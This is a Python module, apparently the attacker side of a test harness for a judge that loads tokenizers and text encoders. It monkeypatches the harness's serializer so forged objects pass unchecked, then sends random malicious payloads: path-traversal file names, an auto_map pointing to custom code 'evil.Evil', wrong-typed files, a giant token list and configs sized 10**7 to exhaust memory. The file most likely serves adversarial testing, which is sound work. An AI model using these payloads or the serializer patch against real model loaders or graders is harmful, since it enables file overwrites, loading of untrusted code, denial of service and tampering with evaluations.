"""Send tokenizers and text encoders whose files lie elsewhere or name code."""

from secrets import choice

import kata.crossing

CLASS = "answers that choke the judge"
TREE = kata.crossing._Packer.tree


class Raw:
    """What crosses as the very tree that it holds."""

    def __init__(self, tree):
        self.tree = tree


kata.crossing._Packer.tree = lambda packer, value: (
    value.tree if isinstance(value, Raw) else TREE(packer, value)
)


def pairs(config):
    return {"kind": "dict", "items": [[key, value] for key, value in config.items()]}


def tokenizer(files):
    return {"kind": "tokenizer", "files": pairs(files)}


EVIL = '{"auto_map": {"AutoTokenizer": ["evil.Evil", null]}, "tokenizer_class": "Evil"}'
STATE = {"weights": 0, "gradients": 0, "flags": pairs({})}
FORGED = (
    tokenizer({"../kata-attack.json": "x"}),
    tokenizer({"/tmp/kata-attack.json": "x"}),
    tokenizer({"vocab.json": "x", "merges.txt": "x"}),
    tokenizer({"tokenizer_config.json": EVIL, "vocab.json": "{}", "merges.txt": ""}),
    tokenizer({"vocab.json": 7, "merges.txt": None}),
    tokenizer({"tokenizer.json": '{"added_tokens": [' + '{"id": 1},' * 10**5 + "{}]}"}),
    {"kind": "text_encoder", "config": pairs({"hidden_size": 10**7, "vocab_size": 10**7}), **STATE},
    {"kind": "text_encoder", "config": pairs({"num_hidden_layers": 10**7}), **STATE},
    {"kind": "text_encoder", "config": pairs({"auto_map": {"AutoModel": "evil.Evil"}}), **STATE},
)


def attack(name, /, *args, **kwargs):
    return Raw(choice(FORGED))
